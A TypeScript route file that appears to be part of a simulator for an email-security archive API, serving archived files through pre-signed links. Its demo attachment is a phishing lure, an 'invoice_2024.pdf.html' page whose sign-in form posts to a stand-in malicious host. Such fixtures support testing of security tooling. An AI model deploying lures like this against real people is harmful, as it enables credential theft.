/**
 * /api/archive/get-file — an archived file. 2.0 answers JSON whose data[0].urls[] are pre-signed
 * links on a separate download host, fetched without the token (mimecast-api.md §8); a failure is
 * the JSON envelope. fileResponse (the 1.0 file stream) stays for the gateway route.
 */
import { defineRoutes, defineState, type SimContext } from '../types.js';

export interface SimFile {
  name: string;
  contentType: string;
  content: Buffer;
}

export const DEMO_ATTACHMENT_ID =
  'eNpNj91Og0AQhd9lr0tc2kVoEy8KqZZKWyqtBWJCYJkASZdt9gclxncX1Kg3k0nO-WbOeUcSqBbQlGiBknq3c1ebrSMsFaqlP3vYhyzGqooePVmSNAlL_4m93DTJ_bpbR0G_6VMRPydvhyJKJJzSgLsYfE93_GztHY--FrSmq4bO4iPn7CyuQIutDAPa-ndoghhImVcQqVxpeeyvMGTIBa2bDso_-aBBgz_ka_XlMkGKtb871VJxBoLycmS9U-SaSxNPye2AdyBkw1u0MAeoHQ3f0M-Hr8ZVRg3ItCywmREn60riGHb27042HaaJB3lqjT4FghEDY9sgNplbc4LRxye-SWmI';

export const archiveFiles = defineState(
  'archive.files',
  (): Map<string, SimFile> =>
    new Map([
      [
        DEMO_ATTACHMENT_ID,
        {
          name: 'invoice_2024.pdf.html',
          contentType: 'application/octet-stream',
          content: Buffer.from('<html><body><form action="http://malicious-login-3.example.net/verify">Sign in to view your invoice</form></body></html>\n'),
        },
      ],
    ]),
);

export function fileResponse(sim: SimContext, files: Map<string, SimFile>, item: Record<string, unknown>) {
  const f = files.get(String(item.id ?? ''));
  if (!f) return sim.ok([], [sim.failItem(item, 'err_file_not_found', 'The requested file could not be found', 'id')]);
  return { status: 200, body: f.content, headers: { 'content-type': f.contentType, 'content-disposition': `attachment; filename="${f.name}"` } };
}

export default defineRoutes({
  'POST /api/archive/get-file': (req, sim) => {
    const item = sim.items(req)[0] ?? {};
    const f = archiveFiles(sim).get(String(item.id ?? ''));
    if (!f) return sim.ok([], [sim.failItem(item, 'err_file_not_found', 'The requested file could not be found', 'id')]);
    return sim.ok([{ id: item.id, urls: [sim.presign(f)] }]);
  },
});
